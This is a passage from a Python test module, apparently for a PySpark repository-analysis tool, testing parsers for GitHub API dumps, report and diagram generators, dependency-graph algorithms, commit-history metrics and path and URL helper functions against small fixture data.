    return supply.dependency_summary(_dependency_report(spark))


@known
def dependencies_sorted(spark, sf):
    return supply.sorted_dependencies(_dependency_report(spark), "downloads", True).limit(2).select("pkg", "downloads")


# Dumps and reports ---------------------------------------------------------------------------------------------------


@known
def repository_dump(spark, sf):
    a = one(spark, "content string", ('{"id":1,"full_name":"o/r","html_url":"u","stargazers_count":5,"fork":true,"parent":{"full_name":"p/r"},"topics":["x"],"license":{"spdx_id":"MIT"}}',), ("broken",), ('{"id":2}',))
    return dumps.repositories(a).select("id", "owner", "name", "default_branch", "stars", "forks", "is_fork", "parent_full_name", "license")


@known
def tree_dump(spark, sf):
    return dumps.trees(one(spark, "repo string, content string", ("r", '{"sha":"t","tree":[{"path":"a","type":"tree","sha":"1"},{"path":"a/b.ts","type":"blob","sha":"2","size":7}]}')), ["repo"])


COMMIT_ANSWER = '[{"sha":"c1","commit":{"message":"m","author":{"name":"A","email":"a@x","date":"2024-01-02T03:04:05Z"},"committer":{"date":"2024-01-02T04:00:00Z"}},"author":{"login":"al"},"parents":[{"sha":"p"},{"sha":"q"}]},{"sha":"c2","commit":{"message":"n","author":{"name":"bot[bot]"}},"author":null,"parents":[]}]'


@known
def commit_dump(spark, sf):
    return dumps.commits(one(spark, "repo string, content string", ("r", COMMIT_ANSWER)), ["repo"]).select("repo", "sha", "message", "author_name", F.date_format("author_date", "yyyy-MM-dd HH:mm").alias("at"), "author_login", "n_parents")


@known
def human_commits(spark, sf):
    return history.human_commits(dumps.commits(one(spark, "repo string, content string", ("r", COMMIT_ANSWER)), ["repo"]).unionByName(dumps.commits(one(spark, "repo string, content string", ("r", '[{"sha":"c3","commit":{"message":"ok","author":{"name":"B"}},"parents":[{"sha":"p"}]}]')), ["repo"])), author="author_name").select("sha")


COMPARISON = '{"status":"ahead","ahead_by":2,"behind_by":0,"files":[{"filename":"a.ts","status":"modified","additions":3,"deletions":1,"patch":"@@ -1,2 +1,2 @@ f\\n-old\\n+new\\n same\\n\\\\ No newline"},{"filename":"b.png","status":"added","additions":0,"deletions":0,"patch":"Binary file b.png"}]}'


def _compared(spark):
    return dumps.comparisons(one(spark, "repo string, content string", ("r", COMPARISON)), ["repo"])


@known
def comparison_dump(spark, sf):
    return _compared(spark).drop("patch")


@known
def change_stats(spark, sf):
    return dumps.change_stats(_compared(spark), ["repo"])


@known
def diff_lines(spark, sf):
    return history.parse_patches(_compared(spark), "path")


@known
def pull_dump(spark, sf):
    return dumps.pulls(one(spark, "repo string, content string", ("r", '{"number":7,"title":"t","state":"closed","merged":true,"user":{"login":"al"},"base":{"ref":"main"},"head":{"ref":"f"},"additions":1,"deletions":2,"changed_files":3}')), ["repo"])


@known
def ref_dump(spark, sf):
    return dumps.refs(one(spark, "repo string, content string", ("r", '[{"name":"v1","commit":{"sha":"s1"}},{"name":"main","commit":{"sha":"s2"}}]')), ["repo"])


BLAME_ANSWER = '[{"startingLine":1,"endingLine":3,"age":2,"commit":{"oid":"a","messageHeadline":"h","author":{"name":"A","email":"a@x","user":null}}},{"startingLine":4,"endingLine":4,"age":1,"commit":{"oid":"b","author":{"name":"Al","email":"a@x","user":{"login":"al"}}}},{"startingLine":5,"endingLine":6,"age":1,"commit":{"oid":"c","author":{"name":null,"email":null}}}]'


@known
def blame_dump(spark, sf):
    return dumps.blame(one(spark, "path string, content string", ("f", BLAME_ANSWER)), ["path"]).select("path", "start_line", "end_line", "sha", "author_email", "author_login")


@known
def blame_owners(spark, sf):
    return history.owners(dumps.blame(one(spark, "path string, content string", ("f", BLAME_ANSWER)), ["path"]))


@query(f"WITH {FILES_SQL} SELECT path, '' AS content, 0::INT AS line_count FROM files")
def metadata_index(spark, sf):
    return dumps.without_content(files(spark).select("path", "content"))


@query(f"WITH {FILES_SQL} SELECT path FROM files WHERE ordinal <> 2 UNION ALL SELECT 'new.ts'")
def index_upserted(spark, sf):
    changes = one(spark, "path string, content string, removed boolean", ("new.ts", "x", False), ("src/components/Button.tsx", "", True), ("README.md", "y", False))
    return search.upsert(files(spark).select("path", "content"), changes).select("path")


@query(f"WITH {FILES_SQL} SELECT path FROM files WHERE regexp_matches(path, '\\.(tsx|ts|py|go|rs|json|md)$') AND length(content) <= 500000")
def indexable_files(spark, sf):
    return repo.indexable(files(spark).withColumn("size", F.length("content"))).select("path")


@query(f"WITH {FILES_SQL} SELECT path FROM files WHERE path LIKE '%.py' OR path LIKE 'src/%' OR contains(path, 'READ')")
def glob_filtered(spark, sf):
    return files(spark).where(fn.glob_filter(F.col("path"), "*.py, src/*, READ")).select("path")


@query(f"WITH {FILES_SQL} SELECT path, replace(content, 'import', 'IMPORT') AS content FROM files")
def replaced_everywhere(spark, sf):
    return search.replace_all(files(spark), "import", "IMPORT", case_sensitive=True).select("path", "content")


ISSUES = ("repo string, path string, line_no int, rule_id string, severity string", ("r", "b.ts", 2, "x", "warning"), ("r", "a.ts", 1, "y", "critical"), ("r", "a.ts", 5, "x", "warning"), ("r", "a.ts", 6, "x", "warning"))


@known
def report_issues_markdown(spark, sf):
    return report.issues_markdown(one(spark, ISSUES[0], *ISSUES[1:]), ["repo"], 2)


@known
def report_repository_markdown(spark, sf):
    repos = one(spark, "full_name string, url string, language string, stars long", ("r", "http://r", "go", 3))
    totals = one(spark, "full_name string, files long, lines long, framework string", ("r", 2, 40, None))
    return report.repository_markdown(repos, totals, one(spark, ISSUES[0], *ISSUES[1:]).withColumnRenamed("repo", "full_name"))


@known
def report_summary_snippet(spark, sf):
    return report.summary_snippet(one(spark, "repo string, grade string, total long, critical long, warning long, info long", ("r", "B", 3, 0, 2, 1)), ["repo"])


@known
def report_json(spark, sf):
    return report.as_json(one(spark, "repo string, grade string, tags array<string>", ("r", "A", ["x", "y"])), ["repo"])


@known
def report_compliance_json(spark, sf):
    return report.compliance_json(one(spark, "item string, n_rules long, n_issues long, status string", ("A02", 1, 0, "warn"), ("A01", 0, 0, "no-coverage"), ("A03", 4, 0, "pass")))


@known
def diagram_flow(spark, sf):
    nodes = one(spark, "repo string, node string, label string, style string", ("r", "src/a.ts", 'a "x"', "hub"), ("r", "b.ts", "b", None))
    return report.flow(nodes, one(spark, "repo string, src string, dst string, label string", ("r", "b.ts", "src/a.ts", "2"), ("r", "src/a.ts", "b.ts", None)), ["repo"], "LR")


@known
def diagram_classes(spark, sf):
    return report.class_diagram(structure.types(files(spark)).where("path = 'src/app.tsx'"), ["path"])


@known
def diagram_pie(spark, sf):
    return report.pie_chart(one(spark, "repo string, key string, n long", ("r", "ts", 3), ("r", "py", 9)), ["repo"], "Files")


@known
def packages_by_category(spark, sf):
    p = one(spark, "pkg string, importers long", ("react", 5), ("react-dom", 2), ("@radix-ui/dialog", 1), ("reactive-x", 4), ("lodash", 3), ("zod", 1))
    return report.packages_by_category(p, 2)


@known
def folders_adaptive(spark, sf):
    return report.folders(files(spark).withColumn("line_count", line_count(F.col("content"))))


# Graphs --------------------------------------------------------------------------------------------------------------

LOOPS = [("a", "b"), ("b", "c"), ("c", "a"), ("c", "d"), ("d", "e"), ("e", "d"), ("e", "f"), ("f", "g"), ("h", "h"), ("x", "a")]
_LOOPS = f"WITH RECURSIVE {values('e', 'src string, dst string', LOOPS)}, r AS (SELECT src, dst FROM e UNION SELECT r.src, e.dst FROM r JOIN e ON r.dst = e.src)"


def loops(spark: SparkSession) -> DataFrame:
    return one(spark, "src string, dst string", *LOOPS)


@query(f"{_LOOPS} SELECT a.src AS node, max(a.dst) AS component FROM r a JOIN r b ON a.src = b.dst AND a.dst = b.src WHERE a.src IN (SELECT x.src FROM r x JOIN r y ON x.src = y.dst AND x.dst = y.src WHERE x.src <> x.dst) GROUP BY a.src")
def strong_components(spark, sf):
    return graph.strong_components(spark, loops(spark))


@query(f"{_LOOPS} SELECT e.src, e.dst FROM e WHERE EXISTS (SELECT 1 FROM r WHERE r.src = e.dst AND r.dst = e.src) OR e.src = e.dst")
def cycle_edges(spark, sf):
    return graph.cycle_edges(spark, loops(spark))


_UNDIRECTED = f"{values('e', 'src string, dst string', LOOPS)}, u AS (SELECT src AS a, dst AS b FROM e WHERE src <> dst UNION SELECT dst, src FROM e WHERE src <> dst), n AS (SELECT DISTINCT a AS node FROM u)"


@query(
    f"""WITH RECURSIVE {_UNDIRECTED}, w AS (SELECT n.node AS cut, u.a AS start, u.b AS node FROM n JOIN u ON u.a <> n.node AND u.b <> n.node UNION SELECT w.cut, w.start, u.b FROM w JOIN u ON u.a = w.node AND u.b <> w.cut)
SELECT 'all' AS component, node FROM n WHERE EXISTS (SELECT 1 FROM u x JOIN u y ON x.a = n.node AND y.a = n.node AND x.b < y.b WHERE NOT EXISTS (SELECT 1 FROM w WHERE w.cut = n.node AND w.start = x.b AND w.node = y.b))"""
)
def connectors(spark, sf):
    return graph.connectors(spark, loops(spark)).select(F.lit("all").alias("component"), "node")


@query(f"WITH {values('e', 'src string, dst string', LOOPS)} SELECT x.src AS entry, x.dst AS child, y.dst AS grandchild FROM e x LEFT JOIN e y ON y.src = x.dst AND y.src <> y.dst WHERE x.src = 'x'")
def entry_tree(spark, sf):
    return graph.entry_tree(loops(spark), one(spark, "node string", ("x",)))


@known
def graph_common_stats(spark, sf):
    return graph.common_stats(files(spark), edges(spark))


@known
def folder_roles(spark, sf):
    return graph.folder_roles(one(spark, "path string, role string", ("src/a", "leaf"), ("src/b", "hub"), ("lib/c", "orphan"), ("lib/d", "regular"), ("x", "entry")))


@known
def graph_health(spark, sf):
    return graph.health_issues(one(spark, "project string, files long, cycles long, orphans long, depth long, coupled long, split long", ("p", 9, 1, 6, 9, 0, 2), ("q", 9, 0, 5, 8, 0, 0), ("r", 9, 3, 0, 0, 1, 1)))


@query("WITH RECURSIVE w AS (SELECT 0 AS k UNION ALL SELECT k + 1 FROM w WHERE k < 60) SELECT 'n' || k AS node, k::BIGINT AS depth FROM w WHERE k > 0")
def graph_long_chain(spark, sf):
    """A chain longer than any fixed number of rounds."""
    e = spark.range(60).select(F.concat(F.lit("n"), F.col("id")).alias("src"), F.concat(F.lit("n"), F.col("id") + 1).alias("dst"))
    return graph.depths(spark, e.coalesce(1), one(spark, "node string", ("n0",)))


# Comparison and history ----------------------------------------------------------------------------------------------


@known
def boilerplate_paths(spark, sf):
    p = one(spark, "path string", ("LICENSE",), (".github/x.yml",), ("a/tsconfig.build.json",), ("src/a.ts",), ("sub/yarn.lock",), ("x/.vscode/y",))
    return p.select("path", compare.boilerplate(F.col("path")).alias("is_boilerplate"))


@known
def fork_relations(spark, sf):
    return compare.fork_relations(one(spark, "full_name string, is_fork boolean, parent_full_name string", ("o/r", False, None), ("a/r", True, "o/r"), ("b/r", True, "o/r"), ("c/x", True, "gone/x"), ("d/x", True, "gone/x"), ("e/x", True, "gone/x")))


@known
def repository_metrics(spark, sf):
    t = compare.repository_metrics(one(spark, "repo string, path string, size long, language string", ("r", "a", 100, "go"), ("r", "b", 40, "go"), ("r", "c", 12, None)))
    return t.select("repo", "files", "lines", F.to_json("languages").alias("languages"))


@known
def weighted_similarity(spark, sf):
    p = one(spark, "a string, sha double, cont double, path double, deps double, lang double, files long", ("x", 1.0, 1.0, 1.0, 1.0, 1.0, 50), ("y", 0.5, 0.5, 0.5, 0.5, 0.6, 9), ("z", 0.1, 0.4, 0.1, None, 0.2, 20))
    total = compare.overall(dict(zip(compare.WEIGHTS, (F.col("sha"), F.col("cont"), F.col("path"), F.col("deps"), F.col("lang")), strict=True)))
    return p.select("a", F.round(total, 6).alias("score"), compare.label(F.round(total, 6)).alias("label"), (F.col("files") < 10).alias("low_confidence"))


@known
def author_estimates(spark, sf):
    c = one(spark, "author string, ts string", ("a", "2024-01-01 10:00:00"), ("a", "2024-01-01 11:59:00"), ("a", "2024-01-01 13:59:00"), ("a", "2024-01-02 09:00:00"), ("b", "2024-01-07 08:00:00"), ("b", "2024-01-09 08:00:00"))
    return history.author_estimates(c.withColumn("ts", F.to_timestamp("ts")))


@known
def author_pulse(spark, sf):
    return history.pulse(one(spark, "author string, minutes double, sessions long, active_days long", ("a", 90.0, 2, 4), ("b", 30.0, 1, 9)))


@known
def relative_times(spark, sf):
    t = one(spark, "d string", ("2024-06-30",), ("2024-06-29",), ("2024-05-01",), ("2022-06-30",))
    return t.select("d", history.since(F.to_date("d"), F.to_date(F.lit("2024-06-30"))).alias("since"), fn.day_label(F.to_date("d"), F.to_date(F.lit("2024-06-30"))).alias("label"))


# Functions -----------------------------------------------------------------------------------------------------------


@known
def path_functions(spark, sf):
    p = one(spark, "folder string, path string", ("src/lib", "../app/./x.ts"), ("src", "../../up.ts"), ("", "a-b/c__d.ts"), ("a/b/c", "d"))
    full = F.concat_ws("/", "folder", "path")
    return p.select("folder", "path", fn.resolve_path(F.col("folder"), F.col("path")).alias("resolved"), fn.normalize_path(full).alias("normal"), fn.node_id(F.col("path")).alias("id"), fn.short_path(full).alias("short"), fn.top_folder(F.col("path")).alias("top"))


@known
def number_functions(spark, sf):
    n = one(spark, "n long, cost double", (999, 0.0012), (1000, 0.5), (1234, 12.345), (3000000, 0.01), (2500000, 1.0))
    return n.select("n", fn.short_count(F.col("n")).alias("short"), fn.dollars(F.col("cost")).alias("cost"), fn.index_budget(F.col("n")).alias("budget"))


@known
def model_functions(spark, sf):
    m = one(spark, "id string", ("models/fast-model_2",), ("accounts/x/models/big",), ("plain",))
    prices = one(spark, "key string, price double", ("big", 2.0), ("fast", 1.0), ("fast-model", 3.0))
    hit = m.join(F.broadcast(prices), F.col("id").contains(F.col("key")), "left")  # a price list of a few rows
    return hit.groupBy("id").agg(F.max_by("price", F.length("key")).alias("price")).select("id", fn.model_name(F.col("id")).alias("name"), "price")


@known
def finding_vectors(spark, sf):
    v = one(spark, "s string, c string, k string, w string", ("critical", "high", "security", "CWE-79"), ("info", None, "style", None), ("info", "low", "style", ""))
    return v.select(fn.vector(F.col("s"), F.col("c"), F.col("k"), F.col("w")).alias("vector"))


@known
def repository_urls(spark, sf):
    u = one(spark, "url string", ("o/r",), ("https://github.com/o/r.git",), ("github.com/o/r/tree/main/src/a",), ("https://example.com/o/r",), ("http://github.com/o",), ("https://github.com/o/r/blob/dev/x.ts?a=1",))
    r = fn.repository(F.col("url"))
    return u.select("url", r["owner"].alias("owner"), r["repo"].alias("repo"), r["branch"].alias("branch"), r["path"].alias("path"), fn.share_link(r["owner"], r["repo"], F.lit("issues")).alias("link"))


@known
def version_prefixes(spark, sf):
    return one(spark, "v string", ("^1.2.3",), ("~2.0",), (">=3",), ("=4",), ("5.0",)).select("v", fn.strip_version(F.col("v")).alias("bare"))
